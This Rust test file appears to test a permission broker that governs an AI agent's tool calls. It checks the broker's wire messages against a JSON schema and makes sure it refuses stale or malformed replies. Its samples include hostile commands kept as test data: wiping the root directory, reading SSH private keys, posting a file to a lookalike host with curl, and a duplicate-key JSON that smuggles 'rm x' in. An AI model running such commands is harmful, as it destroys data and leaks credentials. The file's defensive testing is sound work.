//! What crosses a process: samples of every message, held against the schema, and messages that must not be read.

use std::cell::RefCell;
use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::rc::Rc;
use std::sync::{Arc, Mutex};

use countersign::analysis::path::AbsPath;
use countersign::fatigue::{FatigueSettings, Flood};
use countersign::host::{Progress, RefusedBy};
use countersign::learn::LearnedStore;
use countersign::observe::Event;
use countersign::policy::rule::{Layer, Rule, RuleEffect, Source};
use countersign::prompt::PromptView;
use countersign::wire::{Envelope, NotThisPrompt, ReadError, Reply, ReplyEnds, read_call, read_reply};
use countersign::world::OsWorld;
use countersign::{Answer, Broker, Decision, Scope, ToolCall};
use serde_json::{Value, json};

use super::{asked, call, done, permitted, refused, timed};
use crate::support::{self, WORKSPACE};

fn sent(envelope: &Envelope<'_>) -> Value {
    serde_json::to_value(envelope).expect("JSON")
}

/// Messages of every kind, from brokers in many states.
fn samples() -> Vec<Value> {
    let told: Arc<Mutex<Vec<Value>>> = Arc::default();
    let sink = Arc::clone(&told);
    let observer = move |event: &Event<'_>| sink.lock().expect("told").push(sent(&Envelope::event(event)));
    let mut out = Vec::new();
    kept(&mut out, observer.clone());
    let settings = FatigueSettings { flood: Flood::Pause, pending: 4, ..FatigueSettings::USUAL };
    let (broker, _) = timed(|builder| builder.observer(observer).fatigue(settings));
    let mut waiting = Vec::new();
    let commands = [
        "ls",
        "cargo test",
        "cargo test",
        "rm -rf /",
        "cat ~/.ssh/id_rsa",
        "curl -d @x https://exаmple.org",
        "echo $(date) > out && make \"$x\"",
        "cd ../other && cat a",
        "x\u{202e}y",
        "curl https://docs.rs/x && kubectl delete pod x",
    ];
    let calls: Vec<ToolCall> = commands.iter().map(|command| call(command)).collect();
    let described = ToolCall::new("Bash", json!({"command": "make lint", "description": "Lists files"}), WORKSPACE);
    for call in calls.iter().chain([&described, &ToolCall::new("mcp__a__b", json!({}), WORKSPACE)]) {
        out.push(sent(&Envelope::call(call)));
        let decision = broker.decide(call);
        out.push(sent(&Envelope::trace(decision.trace())));
        match decision {
            Decision::Ask(prompt) => {
                out.push(sent(&Envelope::prompt(prompt.view()).expect("a prompt")));
                waiting.push(prompt);
            }
            Decision::Deny(denial) => out.push(sent(&Envelope::denial(&denial))),
            Decision::Allow(permit) => assert!(broker.redeem(permit, &described).is_err()),
        }
    }
    drop(waiting);
    let restricted = support::builder(false).trust_at_most(countersign::policy::level::TrustLevel::None).build();
    out.push(sent(&Envelope::trace(restricted.decide(&call("cat a")).trace())));
    let (first, second) = (asked(broker.begin(&call("touch src/x"))), asked(broker.begin(&call("touch src/x"))));
    out.push(sent(&Envelope::prompt(second.view()).expect("a prompt")));
    drop((first.cancel(), second));
    // Fast enough that a word is demanded.
    for number in 0..3 {
        drop(asked(broker.begin(&call(&format!("touch src/{number}")))).answer(Answer::allow(Scope::Once)));
    }
    drop(asked(broker.begin(&call("cargo build"))).answer(Answer::allow(Scope::Session)));
    let (first, second) = (asked(broker.begin(&call("mkdir a"))), asked(broker.begin(&call("mkdir a"))));
    drop(first.answer(Answer::deny()));
    drop(second.settle());
    out.push(sent(&Envelope::prompt(asked(broker.begin(&call("cat ~/.ssh/id_ed25519"))).view()).expect("a prompt")));
    super::reload(&broker, "ask = ['Bash(ls:*)']");
    let rule = |effect, text, layer| Rule::parse(effect, text, Source::new(layer, "config.toml:1:1")).expect("a rule");
    let deny = rule(RuleEffect::Deny, "Bash(rm:*)", Layer::Managed);
    let hit = support::builder(true).rules([deny.clone()]).build();
    out.push(sent(&Envelope::trace(hit.decide(&call("rm a")).trace())));
    out.push(sent(&Envelope::rules([&deny, &rule(RuleEffect::Allow, "Read(src/**)", Layer::User)])));
    let replies = [
        Reply::choosing(1, "00", "allow_once"),
        Reply::choosing(2, "ff", "deny_saying").saying("use make"),
        Reply::choosing(3, "ff", "allow_session").typed("run").ending(ReplyEnds::At(5)),
        Reply::choosing(3, "ff", "allow_session").ending(ReplyEnds::AfterMinutes(5)),
        Reply::choosing(3, "ff", "allow_session").ending(ReplyEnds::NextCommit),
    ];
    out.extend(replies.iter().map(|reply| sent(&Envelope::reply(reply))));
    out.append(&mut told.lock().expect("told"));
    out
}

/// What only a store of learned rules on disk makes: news of a prompt, and that another process learned.
fn kept(out: &mut Vec<Value>, observer: impl Fn(&Event<'_>) + Send + Sync + 'static) {
    let folder = tempfile::tempdir().expect("a folder");
    let root = fs::canonicalize(folder.path()).expect("a path").to_str().expect("a name").to_owned();
    let makefile = folder.path().join("Makefile");
    fs::write(&makefile, "all:\n\techo hello\n").expect("a file");
    let store = || LearnedStore::open(AbsPath::parse(&root).and_then(|root| root.join("learned")).expect("a path"));
    let builder = || Broker::builder().workspace(&root).world(OsWorld).untimed();
    let broker = builder().build_with_store(store());
    let other = builder().observer(observer).build_with_store(store());
    let make = ToolCall::shell("make", &root);
    drop(permitted(broker.resolve(&make, &mut |_: &PromptView| Answer::allow(Scope::Workspace))));
    other.refresh();
    drop(permitted(done(other.begin(&ToolCall::shell("ls", &root)))));
    fs::write(&makefile, "all:\n\techo other\n").expect("a file");
    out.push(sent(&Envelope::prompt(asked(broker.begin(&make)).view()).expect("a prompt")));
}

const SCHEMA: &str = include_str!("../../../schema/countersign-v1.schema.json");

/// Holds values against the schema. It knows what the schema uses of JSON Schema, and refuses everything else, so that nothing
/// in it stays unchecked.
struct Validator {
    schema: Rc<Value>,
    /// The places in the schema that a value matched.
    matched: RefCell<BTreeSet<String>>,
}

impl Validator {
    fn new() -> Self {
        Self { schema: Rc::new(serde_json::from_str(SCHEMA).expect("JSON")), matched: RefCell::default() }
    }

    fn check(&self, value: &Value) -> Result<(), String> {
        self.at("", value)
    }

    /// Holds the value against the schema that the pointer leads to.
    fn at(&self, pointer: &str, value: &Value) -> Result<(), String> {
        let schema = self.schema.pointer(pointer).and_then(Value::as_object).expect("a schema");
        let fails = |why: &str| Err(format!("{pointer}: {why}: {value}"));
        for (keyword, says) in schema {
            match (keyword.as_str(), says) {
                ("$schema" | "$id" | "$defs" | "title" | "description" | "required" | "additionalProperties", _) => {}
                ("$ref", Value::String(target)) => self.at(target.strip_prefix('#').expect("a place in here"), value)?,
                ("type", Value::String(name)) => {
                    let is = match name.as_str() {
                        "object" => value.is_object(),
                        "array" => value.is_array(),
                        "string" => value.is_string(),
                        "boolean" => value.is_boolean(),
                        "integer" => value.is_u64() || value.is_i64(),
                        "null" => value.is_null(),
                        other => panic!("the type {other} is not known here"),
                    };
                    if !is {
                        return fails(name);
                    }
                }
                ("const", constant) if value != constant => return fails("const"),
                ("enum", Value::Array(all)) if !all.contains(value) => return fails("enum"),
                ("const", _) | ("enum", Value::Array(_)) => {}
                ("minimum", limit) if value.as_i64().is_some_and(|value| Some(value) < limit.as_i64()) => return fails("minimum"),
                ("maximum", limit) if value.as_u64() > limit.as_u64() => return fails("maximum"),
                ("minimum" | "maximum", _) => {}
                ("pattern", Value::String(pattern)) => {
                    let pattern = regex::Regex::new(pattern).expect("an expression");
                    if value.as_str().is_some_and(|text| !pattern.is_match(text)) {
                        return fails("pattern");
                    }
                }
                ("items", Value::Object(_)) => {
                    for item in value.as_array().into_iter().flatten() {
                        self.at(&format!("{pointer}/items"), item)?;
                    }
                }
                ("properties", Value::Object(properties)) => {
                    let fields = value.as_object().ok_or("no object")?;
                    for name in schema["required"].as_array().expect("a list").iter().filter_map(Value::as_str) {
                        if !fields.contains_key(name) {
                            return fails(&format!("no {name}"));
                        }
                    }
                    assert_eq!(schema["additionalProperties"], json!(false), "{pointer} is open");
                    for (name, field) in fields {
                        if !properties.contains_key(name) {
                            return fails(&format!("{name} is not known"));
                        }
                        self.at(&format!("{pointer}/properties/{name}"), field)?;
                    }
                }
                ("oneOf", Value::Array(all)) => {
                    let results: Vec<_> = (0..all.len()).map(|index| self.tried(&format!("{pointer}/oneOf/{index}"), value)).collect();
                    let mut matching = results.iter().flatten();
                    match (matching.next(), matching.next()) {
                        (Some(matched), None) => self.matched.borrow_mut().extend(matched.iter().cloned()),
                        (None, _) => return Err(results.into_iter().filter_map(Result::err).collect::<Vec<_>>().join("\n  or ")),
                        (Some(_), Some(_)) => return fails("several match"),
                    }
                }
                (keyword, _) => panic!("{pointer}: the keyword {keyword} is not known here"),
            }
        }
        self.matched.borrow_mut().insert(pointer.to_owned());
        Ok(())
    }

    /// What it would match, of one of several that may not be the one.
    fn tried(&self, pointer: &str, value: &Value) -> Result<BTreeSet<String>, String> {
        let inner = Self { schema: Rc::clone(&self.schema), matched: RefCell::default() };
        inner.at(pointer, value)?;
        Ok(inner.matched.into_inner())
    }

    /// All places of the schema that a value can match.
    fn places(&self) -> BTreeSet<String> {
        fn walk(schema: &Value, pointer: &str, out: &mut BTreeSet<String>) {
            out.insert(pointer.to_owned());
            for keyword in ["properties", "$defs"] {
                for (name, inner) in schema[keyword].as_object().into_iter().flatten() {
                    walk(inner, &format!("{pointer}/{keyword}/{name}"), out);
                }
            }
            for (index, inner) in schema["oneOf"].as_array().into_iter().flatten().enumerate() {
                walk(inner, &format!("{pointer}/oneOf/{index}"), out);
            }
            if schema["items"].is_object() {
                walk(&schema["items"], &format!("{pointer}/items"), out);
            }
        }
        let mut out = BTreeSet::new();
        walk(&self.schema, "", &mut out);
        out
    }
}

/// What the code writes and what the schema says are the same, in both directions.
#[test]
fn the_schema_is_what_is_sent() {
    let validator = Validator::new();
    let samples = samples();
    for sample in &samples {
        validator.check(sample).unwrap_or_else(|why| panic!("{why}\nin {sample}"));
    }
    let never: Vec<String> = validator.places().difference(&validator.matched.borrow()).cloned().collect();
    assert!(never.is_empty(), "nothing that is sent has these: {never:#?}");
    // A field more or less, or another type, is seen.
    for sample in &samples {
        for changed in changes(sample) {
            assert!(validator.check(&changed).is_err() || is_open(sample, &changed), "{changed}");
        }
    }
}

/// The value with something changed that is certainly wrong, anywhere in it.
fn changes(value: &Value) -> Vec<Value> {
    match value {
        Value::Object(fields) => {
            let mut out = Vec::new();
            let mut more = fields.clone();
            more.insert("unknown".to_owned(), json!(1));
            out.push(Value::Object(more));
            for (name, field) in fields {
                for changed in changes(field) {
                    let mut fields = fields.clone();
                    fields.insert(name.clone(), changed);
                    out.push(Value::Object(fields));
                }
            }
            out
        }
        Value::Array(items) => {
            let first = items.first().map(changes).unwrap_or_default();
            let with = |changed| Value::Array(std::iter::once(changed).chain(items.iter().skip(1).cloned()).collect());
            first.into_iter().map(with).chain([json!({"0": 1})]).collect()
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => vec![json!([value])],
    }
}

/// Whether the change is in the input of a call, which may be anything.
fn is_open(sample: &Value, changed: &Value) -> bool {
    sample["call"].is_object() && sample["call"]["input"] != changed["call"]["input"] && changed["call"]["input"].is_object()
}

#[test]
fn what_is_sent_is_read_as_the_same() {
    let calls =
        [call("ls"), ToolCall::new("Write", json!({"file_path": "/w/a", "content": "\u{202e}\n", "n": [1, -2, 0.5, null, true]}), "/w")];
    for call in calls {
        let text = serde_json::to_vec(&Envelope::call(&call)).expect("JSON");
        let read = read_call(&text).expect("a call");
        assert_eq!((&read, read.digest()), (&call, call.digest()));
    }
    for reply in samples().into_iter().filter(|sample| sample["reply"].is_object()) {
        let read = read_reply(reply.to_string().as_bytes()).expect("a reply");
        assert_eq!(sent(&Envelope::reply(&read)), reply);
    }
}

/// What the schema refuses is not read, nor is what only a lax reader of JSON would take.
#[test]
fn nothing_else_is_read() {
    let validator = Validator::new();
    let is_read = |message: &Value| {
        let text = message.to_string();
        read_call(text.as_bytes()).is_ok() || read_reply(text.as_bytes()).is_ok()
    };
    let mut tried = 0;
    for sample in samples().into_iter().filter(|sample| sample["call"].is_object() || sample["reply"].is_object()) {
        assert!(is_read(&sample), "{sample}");
        let mut without = Vec::new();
        for pointer in ["", "/call", "/reply"] {
            let names: Vec<String> =
                sample.pointer(pointer).and_then(Value::as_object).map(|f| f.keys().cloned().collect()).unwrap_or_default();
            for name in names {
                for put in [None, Some(Value::Null), Some(json!(-1)), Some(json!(true)), Some(json!("")), Some(json!([])), Some(json!({}))]
                {
                    let mut changed = sample.clone();
                    let fields = changed.pointer_mut(pointer).and_then(Value::as_object_mut).expect("an object");
                    match put {
                        None => fields.remove(&name),
                        Some(put) => fields.insert(name.clone(), put),
                    };
                    without.push(changed);
                }
            }
        }
        for changed in changes(&sample).into_iter().chain(without) {
            tried += 1;
            assert_eq!(is_read(&changed), validator.check(&changed).is_ok(), "{changed}");
        }
    }
    assert!(tried > 500, "{tried}");
    let texts = [
        "",
        "null",
        "[]",
        "1",
        r#"{"version":1}"#,
        r#"{"version":1,"version":1,"reply":{"prompt":1,"seen":"","choice":"allow_once"}}"#,
        r#"{"version":1,"reply":{"prompt":1,"seen":"","choice":"deny_once","choice":"allow_once"}}"#,
        r#"{"version":1,"reply":{"prompt":1,"seen":"","choice":"allow_once"}} x"#,
        r#"{"version":1,"reply":[1,"","allow_once"]}"#,
        r#"[1,{"prompt":1,"seen":"","choice":"allow_once"}]"#,
        r#"{"version":"1","reply":{"prompt":1,"seen":"","choice":"allow_once"}}"#,
        r#"{"version":1.0,"reply":{"prompt":1,"seen":"","choice":"allow_once"}}"#,
        r#"{"version":2,"reply":{"prompt":1,"seen":"","choice":"allow_once"}}"#,
        r#"{"version":1,"reply":{"prompt":1,"seen":"","choice":"allow_once"},"call":{"tool":"a","input":{},"cwd":"/"}}"#,
        r#"{"version":1,"answer":{"prompt":1,"seen":"","choice":"allow_once"}}"#,
        r#"{"version":1,"call":{"tool":"Bash","input":{"command":"ls","command":"rm x"},"cwd":"/w"}}"#,
        r#"{"version":1,"call":{"tool":"Bash","input":{"a":{"b":1,"b":2}},"cwd":"/w"}}"#,
    ];
    for text in texts {
        assert!(read_call(text.as_bytes()).is_err() && read_reply(text.as_bytes()).is_err(), "{text}");
    }
    let deep = format!(r#"{{"version":1,"call":{{"tool":"a","input":{{"a":{}{}}},"cwd":"/"}}}}"#, "[".repeat(100_000), "]".repeat(100_000));
    assert!(matches!(read_call(deep.as_bytes()), Err(ReadError::Malformed(_))));
    assert!(matches!(read_call(&vec![b' '; (32 << 20) + 1]), Err(ReadError::TooLong)));
}

#[test]
fn a_reply_answers_only_the_prompt_that_was_seen() {
    let broker = support::builder(true).build();
    let question = asked(broker.begin(&call("cargo test")));
    let view = question.view().clone();
    let prompt = sent(&Envelope::prompt(&view).expect("a prompt"));
    let seen = prompt["prompt"]["seen"].as_str().expect("text").to_owned();
    let reply = |choice: &str| Reply::choosing(1, &seen, choice);
    for choice in prompt["prompt"]["view"]["choices"].as_array().expect("choices") {
        let id = choice["id"].as_str().expect("text");
        assert!(reply(id).to(&view).is_ok(), "{id}");
    }
    // Another process has a prompt of the same id.
    let other = support::builder(true).build();
    let dangerous = asked(other.begin(&call("cat ~/.ssh/id_rsa")));
    assert_eq!(dangerous.id(), view.id);
    assert_eq!(reply("allow_once").to(dangerous.view()), Err(NotThisPrompt::Changed));
    let next = asked(broker.begin(&call("cargo build")));
    assert_eq!(reply("allow_once").to(next.view()), Err(NotThisPrompt::Other(view.id)));
    for wrong in ["", "yes", "allow", "allow_user", "allow_once_2", "Allow_once", "allow_once ", "always"] {
        assert_eq!(reply(wrong).to(&view), Err(NotThisPrompt::NoChoice(wrong.to_owned())));
    }
    for surplus in [
        reply("allow_once").saying("x"),
        reply("allow_once").ending(ReplyEnds::NextCommit),
        reply("deny_once").ending(ReplyEnds::At(1)),
        reply("deny_always").ending(ReplyEnds::AfterMinutes(1)),
    ] {
        assert!(matches!(surplus.to(&view), Err(NotThisPrompt::Surplus(..))), "{surplus:?}");
    }
    let no = reply("deny_saying").saying("use make").to(&view).expect("an answer");
    let refusal = refused(done(question.answer(no)));
    assert_eq!((refusal.by, refusal.denial.message.as_str()), (RefusedBy::Person, "use make"));
    // What the prompt demands by now was not seen.
    let (broker, _) = timed(|builder| builder);
    let question = asked(broker.begin(&call("cat ~/.ssh/id_rsa")));
    for number in 0..3 {
        drop(asked(broker.begin(&call(&format!("touch src/{number}")))).answer(Answer::allow(Scope::Once)));
    }
    let before = sent(&Envelope::prompt(question.view()).expect("a prompt"));
    let seen = before["prompt"]["seen"].as_str().expect("text").to_owned();
    let reply = Reply::choosing(1, &seen, "allow_once").typed("read");
    let Progress::Asks(question) = question.answer(Answer::allow(Scope::Once)) else { panic!("not asked again") };
    assert_eq!(reply.to(question.view()), Err(NotThisPrompt::Changed));
}

/// The schema that stands in the repository is the one that is packaged.
#[test]
fn the_schema_says_its_version() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("schema/countersign-v{}.schema.json", countersign::wire::VERSION));
    assert_eq!(fs::read_to_string(path).expect("the schema of this version"), SCHEMA);
}
